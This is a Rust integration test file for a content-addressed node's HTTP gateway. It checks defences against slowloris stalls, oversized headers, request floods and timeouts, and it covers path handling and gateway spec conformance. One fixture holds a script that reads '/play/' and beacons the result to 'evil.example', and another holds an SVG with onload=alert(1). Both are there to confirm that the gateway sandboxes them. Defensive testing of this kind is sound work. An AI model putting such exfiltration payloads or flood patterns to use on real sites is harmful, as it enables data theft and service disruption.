//! The gateway and the node's HTTP server through their sockets: what slow, oversized or
//! too many clients cannot make them do, and what an honest client still gets.

mod common;

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use axum::Router;
use axum::routing::get;
use common::send;
use streamspace_node::http::{HttpLimits, bind};
use streamspace_shard::Cid;
use streamspace_shard::import::ImportOptions;
use streamspace_shard::store::add_reader;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::watch;

/// Long enough that only a server that never closes fails it.
const GENEROUS: Duration = Duration::from_secs(60);

async fn add(node: &streamspace_node::Node, data: &[u8]) -> Cid {
    add_reader(
        Some(node.transport().store().as_ref()),
        std::io::Cursor::new(data.to_vec()),
        ImportOptions::default(),
    )
    .await
    .expect("add")
    .cid
}

/// Reads until the server closes the connection; what it sent before closing.
async fn until_closed(mut s: TcpStream) -> Vec<u8> {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    tokio::time::timeout(GENEROUS, async {
        loop {
            match s.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => got.extend_from_slice(&buf[..n]),
            }
        }
    })
    .await
    .expect("the server closes the stalled connection");
    got
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stalled_clients_do_not_stop_an_honest_one() {
    let repo = tempfile::tempdir().expect("dir");
    let node = common::node(repo.path()).await;
    let gw = node.gateway_addr().expect("gateway");
    let data = common::data(100_000, 1);
    let root = add(&node, &data).await;

    // 1,000 clients each send a few bytes of a request and then nothing (slowloris).
    let mut stalled = Vec::new();
    for i in 0..1000 {
        let mut s = TcpStream::connect(gw).await.expect("connect");
        let part: &[u8] = match i % 3 {
            0 => b"GET /ipfs/",
            1 => b"GET / HTTP/1.1\r\nHost: x\r\n",
            _ => b"",
        };
        s.write_all(part).await.expect("write");
        stalled.push(s);
    }
    // An honest client is answered in full meanwhile, on the gateway and on the API.
    let r = send(gw, "GET", &format!("/ipfs/{root}"), &[], Vec::new()).await;
    assert_eq!(r.status, 200);
    assert_eq!(r.body.as_ref(), data.as_slice());
    let api = node.api_addr().expect("api");
    let v = common::post(api, "/api/v0/version").await;
    assert_eq!(v.status, 200);
    drop(stalled);
    node.shutdown().await.expect("shutdown");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_heads_and_targets_are_refused_before_any_handler() {
    let repo = tempfile::tempdir().expect("dir");
    let node = common::node(repo.path()).await;
    let gw = node.gateway_addr().expect("gateway");
    let root = add(&node, b"small file").await;
    let limits = HttpLimits::default();

    let big = "a".repeat(limits.max_header_bytes + 1);
    let r = send(
        gw,
        "GET",
        &format!("/ipfs/{root}"),
        &[("x-big", &big)],
        Vec::new(),
    )
    .await;
    assert_eq!(r.status, 431);
    // Too many header fields.
    let names: Vec<String> = (0..=limits.max_headers)
        .map(|i| format!("x-h{i}"))
        .collect();
    let many: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "1")).collect();
    let r = send(gw, "GET", &format!("/ipfs/{root}"), &many, Vec::new()).await;
    assert_eq!(r.status, 431);
    // A target longer than allowed, the head as a whole within bounds.
    let long = format!("/ipfs/{root}?x={}", "b".repeat(limits.max_uri_len));
    assert!(long.len() < limits.max_header_bytes);
    let r = send(gw, "GET", &long, &[], Vec::new()).await;
    assert_eq!(r.status, 414);
    // The API is bounded the same way.
    let api = node.api_addr().expect("api");
    let r = send(
        api,
        "POST",
        "/api/v0/version",
        &[("x-big", &big)],
        Vec::new(),
    )
    .await;
    assert_eq!(r.status, 431);
    // The honest request is served.
    let r = send(gw, "GET", &format!("/ipfs/{root}"), &[], Vec::new()).await;
    assert_eq!(r.status, 200);
    assert_eq!(r.body.as_ref(), b"small file");
    node.shutdown().await.expect("shutdown");
}

/// A server under `limits` over `app`, and the sender that stops it.
async fn server(
    app: Router,
    limits: HttpLimits,
) -> (SocketAddr, watch::Sender<bool>, tokio::task::JoinHandle<()>) {
    let (stop, stop_rx) = watch::channel(false);
    let (addr, task) = bind("127.0.0.1:0".parse().expect("addr"), app, limits, stop_rx)
        .await
        .expect("bind");
    (addr, stop, task)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stalled_client_is_disconnected_after_the_header_timeout() {
    let mut limits = HttpLimits::default();
    limits.header_read_timeout = Duration::from_millis(300);
    let app = Router::new().route("/", get(|| async { "hello" }));
    let (addr, stop, task) = server(app, limits).await;

    // Half a request line, then silence; and a connection that sends nothing.
    let mut half = TcpStream::connect(addr).await.expect("connect");
    half.write_all(b"GET / HT").await.expect("write");
    let silent = TcpStream::connect(addr).await.expect("connect");
    // A whole request, then silence on the kept-alive connection.
    let mut idle = TcpStream::connect(addr).await.expect("connect");
    idle.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .expect("write");
    let got = until_closed(half).await;
    assert!(
        !got.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&got)
    );
    until_closed(silent).await;
    let got = until_closed(idle).await;
    assert!(
        got.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&got)
    );
    // The server itself goes on.
    let r = send(addr, "GET", "/", &[], Vec::new()).await;
    assert_eq!(r.status, 200);
    assert_eq!(r.body.as_ref(), b"hello");
    stop.send(true).expect("stop");
    tokio::time::timeout(GENEROUS, task)
        .await
        .expect("the server stops")
        .expect("task");
    assert!(
        TcpStream::connect(addr).await.is_err(),
        "no longer accepting"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_beyond_the_limit_are_shed_and_slow_answers_time_out() {
    let mut limits = HttpLimits::default();
    limits.max_concurrent_requests = 1;
    limits.request_timeout = Duration::from_millis(500);
    // `/hold` answers once told to; `/never` never answers.
    let (entered_tx, mut entered) = tokio::sync::mpsc::channel::<()>(1);
    let release = Arc::new(tokio::sync::Notify::new());
    let held = release.clone();
    let app = Router::new()
        .route("/fast", get(|| async { "fast" }))
        .route(
            "/hold",
            get(move || {
                let (entered_tx, held) = (entered_tx.clone(), held.clone());
                async move {
                    let _ = entered_tx.send(()).await;
                    held.notified().await;
                    "held"
                }
            }),
        )
        .route("/never", get(futures::future::pending::<&str>));
    let mut no_timeout = limits.clone();
    no_timeout.request_timeout = GENEROUS * 10;
    let (addr, stop, _task) = server(app.clone(), no_timeout).await;

    let hold = tokio::spawn(async move { send(addr, "GET", "/hold", &[], Vec::new()).await });
    entered
        .recv()
        .await
        .expect("the first request is being handled");
    // The one place is taken: answered 503 at once, with a hint to come back.
    let r = send(addr, "GET", "/fast", &[], Vec::new()).await;
    assert_eq!(r.status, 503);
    assert_eq!(r.headers["retry-after"], "1");
    release.notify_one();
    let r = hold.await.expect("task");
    assert_eq!((r.status, r.body.as_ref()), (200, b"held".as_ref()));
    let r = send(addr, "GET", "/fast", &[], Vec::new()).await;
    assert_eq!((r.status, r.body.as_ref()), (200, b"fast".as_ref()));
    stop.send(true).expect("stop");

    // An answer that never comes is cut at the deadline, and frees its place.
    let (addr, stop, _task) = server(app, limits).await;
    let r = send(addr, "GET", "/never", &[], Vec::new()).await;
    assert_eq!(r.status, 504);
    let r = send(addr, "GET", "/fast", &[], Vec::new()).await;
    assert_eq!(r.status, 200);
    stop.send(true).expect("stop");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn play_answers_run_in_no_origin_and_paths_have_one_spelling() {
    use streamspace_node::gateway::{CacheStats, Keyring, router_with_keys};
    use streamspace_shard::crypto::ContentKey;
    let repo = tempfile::tempdir().expect("dir");
    let node = common::node(repo.path()).await;
    // An encrypted directory: a page that would read other items' plaintext if it ran in
    // the gateway's origin, an image that can carry script, and a video.
    let dir = tempfile::tempdir().expect("dir");
    let page = b"<script>fetch('/play/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))</script>";
    std::fs::write(dir.path().join("page.html"), page).expect("write");
    std::fs::write(dir.path().join("pic.svg"), b"<svg onload=\"alert(1)\"/>").expect("write");
    let video = common::data(5_000, 2);
    std::fs::write(dir.path().join("v.mp4"), &video).expect("write");
    let key = ContentKey::generate();
    let root = streamspace_shard::store::add_encrypted_dir(
        Some(node.transport().store().as_ref()),
        dir.path().to_owned(),
        key.clone(),
        ImportOptions::default().with_cid_version(1).expect("v1"),
    )
    .await
    .expect("add")
    .cid;
    let app = router_with_keys(
        node.transport().clone(),
        Arc::new(CacheStats::default()),
        Arc::new(Keyring::from([(root, key)])),
    );
    let (addr, stop, _task) = server(app, HttpLimits::default()).await;

    for name in ["page.html", "pic.svg"] {
        let r = send(
            addr,
            "GET",
            &format!("/play/{root}/{name}"),
            &[],
            Vec::new(),
        )
        .await;
        assert_eq!(r.status, 200, "{name}");
        assert_eq!(r.headers["content-security-policy"], "sandbox", "{name}");
        assert_eq!(r.headers["content-disposition"], "attachment", "{name}");
        let ty = r.headers["content-type"].to_str().expect("type");
        assert!(!ty.contains("html") && !ty.contains("svg"), "{name}: {ty}");
        assert_eq!(r.headers["x-content-type-options"], "nosniff");
    }
    // The viewer still gets the video to play inline, sandboxed too.
    let r = send(addr, "GET", &format!("/play/{root}/v.mp4"), &[], Vec::new()).await;
    assert_eq!(r.status, 200);
    assert_eq!(r.headers["content-type"], "video/mp4");
    assert_eq!(r.headers["content-security-policy"], "sandbox");
    assert!(r.headers.get("content-disposition").is_none());
    assert_eq!(r.body.as_ref(), video.as_slice());
    // Other spellings of the same file open it with the same key.
    for spelling in ["/v.mp4", "//v.mp4", "/./v.mp4", "/.//v.mp4/"] {
        let r = send(
            addr,
            "GET",
            &format!("/play/{root}{spelling}"),
            &[],
            Vec::new(),
        )
        .await;
        assert_eq!(r.status, 200, "{spelling}");
        assert_eq!(r.body.as_ref(), video.as_slice(), "{spelling}");
    }
    // `..` is refused, not resolved.
    let r = send(
        addr,
        "GET",
        &format!("/play/{root}/x/../v.mp4"),
        &[],
        Vec::new(),
    )
    .await;
    assert_eq!(r.status, 400);
    stop.send(true).expect("stop");
    node.shutdown().await.expect("shutdown");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn answers_as_the_trustless_gateway_specification_asks() {
    let repo = tempfile::tempdir().expect("dir");
    let node = common::node(repo.path()).await;
    let gw = node.gateway_addr().expect("gateway");
    let get = |path: String, headers: Vec<(&'static str, String)>| async move {
        let h: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        tokio::time::timeout(GENEROUS, send(gw, "GET", &path, &h, Vec::new()))
            .await
            .expect("answered")
    };
    let dir = tempfile::tempdir().expect("dir");
    let site = dir.path().join("site");
    std::fs::create_dir(&site).expect("dir");
    std::fs::write(site.join("a.txt"), b"alpha").expect("write");
    let root = streamspace_shard::store::add_path(
        Some(node.transport().store().as_ref()),
        site,
        ImportOptions::default(),
        false,
        |_, _| {},
    )
    .await
    .expect("add")
    .cid;
    let file = streamspace_shard::dag::resolve(node.transport().store().as_ref(), &root, "a.txt")
        .await
        .expect("file");

    // Content nobody has: 404 in every format (not 502), 412 for a cache-only request.
    let unknown = "bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy";
    for q in ["?format=car", "?format=raw", ""] {
        let r = get(format!("/ipfs/{unknown}{q}"), vec![]).await;
        assert_eq!(r.status, 404, "{q}");
    }
    let cached = ("cache-control", "only-if-cached".to_owned());
    let r = get(format!("/ipfs/{unknown}"), vec![cached.clone()]).await;
    assert_eq!(r.status, 412);
    let r = get(format!("/ipfs/{root}/a.txt"), vec![cached]).await;
    assert_eq!((r.status, r.body.as_ref()), (200, b"alpha".as_ref()));

    // The identity CID: its (empty) block is in the CID, answered as it is.
    let r = get("/ipfs/bafkqaaa?format=raw".into(), vec![]).await;
    assert_eq!(r.status, 200);
    assert!(r.body.is_empty());
    let r = get("/ipfs/bafkqaaa".into(), vec![]).await;
    assert_eq!(r.status, 200);
    let r = get("/ipfs/bafkqaaa?format=car".into(), vec![]).await;
    assert_eq!(r.status, 200);
    let check = streamspace_shard::store::MemoryStore::new();
    let summary = streamspace_shard::car::read_car(std::io::Cursor::new(r.body.to_vec()), &check)
        .await
        .expect("a verified CAR");
    assert_eq!(summary.roots, [Cid::try_from("bafkqaaa").expect("cid")]);

    // The CIDs along the path.
    let r = get(format!("/ipfs/{root}/a.txt"), vec![]).await;
    assert_eq!(r.headers["x-ipfs-roots"], format!("{root},{file}").as_str());
    // A client holding the answer gets 304 without the body.
    let etag = r.headers["etag"].to_str().expect("etag").to_owned();
    for inm in [
        etag.clone(),
        format!("W/{etag}"),
        format!("\"other\", {etag}"),
        "*".into(),
    ] {
        let r = get(
            format!("/ipfs/{root}/a.txt"),
            vec![("if-none-match", inm.clone())],
        )
        .await;
        assert_eq!(r.status, 304, "{inm}");
        assert!(r.body.is_empty());
    }
    let r = get(
        format!("/ipfs/{root}/a.txt"),
        vec![("if-none-match", "\"other\"".into())],
    )
    .await;
    assert_eq!((r.status, r.body.as_ref()), (200, b"alpha".as_ref()));
    let r = get(format!("/ipfs/{root}?format=raw"), vec![]).await;
    let raw_tag = r.headers["etag"].to_str().expect("etag").to_owned();
    let r = get(
        format!("/ipfs/{root}?format=raw"),
        vec![("if-none-match", raw_tag)],
    )
    .await;
    assert_eq!(r.status, 304);

    // CAR parameters this gateway cannot honour are refused, never silently ignored.
    for (q, accept) in [
        ("?format=car&car-dups=y", ""),
        ("?format=car&car-version=2", ""),
        ("?format=car&car-order=weird", ""),
        ("", "application/vnd.ipld.car; dups=y"),
        ("", "application/vnd.ipld.car; version=2"),
    ] {
        let r = get(
            format!("/ipfs/{root}{q}"),
            vec![("accept", accept.to_owned())],
        )
        .await;
        assert_eq!(r.status, 400, "{q} {accept}");
    }
    for (q, accept) in [
        ("?format=car&car-dups=n&car-order=dfs", ""),
        ("", "application/vnd.ipld.car; version=1; order=unk; dups=n"),
    ] {
        let r = get(
            format!("/ipfs/{root}{q}"),
            vec![("accept", accept.to_owned())],
        )
        .await;
        assert_eq!(r.status, 200, "{q} {accept}");
    }

    // Accept q-values choose the format.
    for (accept, ty) in [
        (
            "application/vnd.ipld.car;q=0.5, application/vnd.ipld.raw;q=0.9",
            "application/vnd.ipld.raw",
        ),
        (
            "application/vnd.ipld.raw;q=0.1, application/vnd.ipld.car",
            "application/vnd.ipld.car",
        ),
        ("application/vnd.ipld.raw;q=0, */*", "text/plain"),
    ] {
        let r = get(
            format!("/ipfs/{root}/a.txt"),
            vec![("accept", accept.to_owned())],
        )
        .await;
        assert_eq!(r.status, 200, "{accept}");
        let got = r.headers["content-type"].to_str().expect("type");
        assert!(got.starts_with(ty), "{accept}: {got}");
    }
    node.shutdown().await.expect("shutdown");
}
